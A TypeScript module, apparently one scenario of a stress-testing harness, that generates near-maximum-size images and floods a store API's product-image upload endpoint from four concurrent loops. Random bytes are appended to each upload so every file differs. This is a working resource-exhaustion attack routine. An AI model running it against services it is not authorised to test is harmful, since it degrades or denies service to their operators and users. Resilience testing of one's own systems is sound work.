import { randomBytes } from 'node:crypto'
import sharp from 'sharp'
import { request } from 'undici'
import type { Situation, Target } from './situations.ts'

const AT_ONCE = 4
/** 39.9 million pixels, below what is refused. */
const [WIDTH, HEIGHT] = [7_000, 5_700]

let pictures: readonly (readonly [type: string, bytes: Buffer])[] = []

/** As large as a picture may be, one after the other in four turns, each another one by bytes behind its end. */
export const largePictures: Pick<Situation, 'prepare' | 'attack'> = {
  prepare: async () => {
    const create = { width: WIDTH, height: HEIGHT, channels: 3, background: 'red' } as const
    const noise = { type: 'gaussian', mean: 128, sigma: 12 } as const
    pictures = await Promise.all(
      (['jpeg', 'png', 'webp'] as const).map(async (format) => {
        const made = sharp({ create: format === 'png' ? create : { ...create, noise } })
        return [`image/${format}`, await made.toFormat(format, { quality: 50, effort: 1 }).toBuffer()] as const
      }),
    )
  },
  attack: async ({ origin, headers, productIds: [id] }: Target, signal) => {
    const send = async (first: number) => {
      for (let at = first; !signal.aborted; at++) {
        const [type = '', bytes = Buffer.alloc(0)] = pictures[at % pictures.length] ?? []
        const answer = await request(`${origin}/StoreWebAPI/v1/Products/${id}/Images`, {
          method: 'POST',
          headers: { ...headers, 'content-type': type },
          body: Buffer.concat([bytes, randomBytes(16)]),
          signal,
          headersTimeout: 120_000,
        })
        await answer.body.dump()
        statuses[answer.statusCode] = (statuses[answer.statusCode] ?? 0) + 1
      }
    }
    const statuses: Record<number, number> = {}
    await Promise.all(Array.from({ length: AT_ONCE }, (_, at) => send(at).catch(() => undefined)))
    process.stderr.write(`Pictures answered, by status: ${JSON.stringify(statuses)}\n`)
  },
}
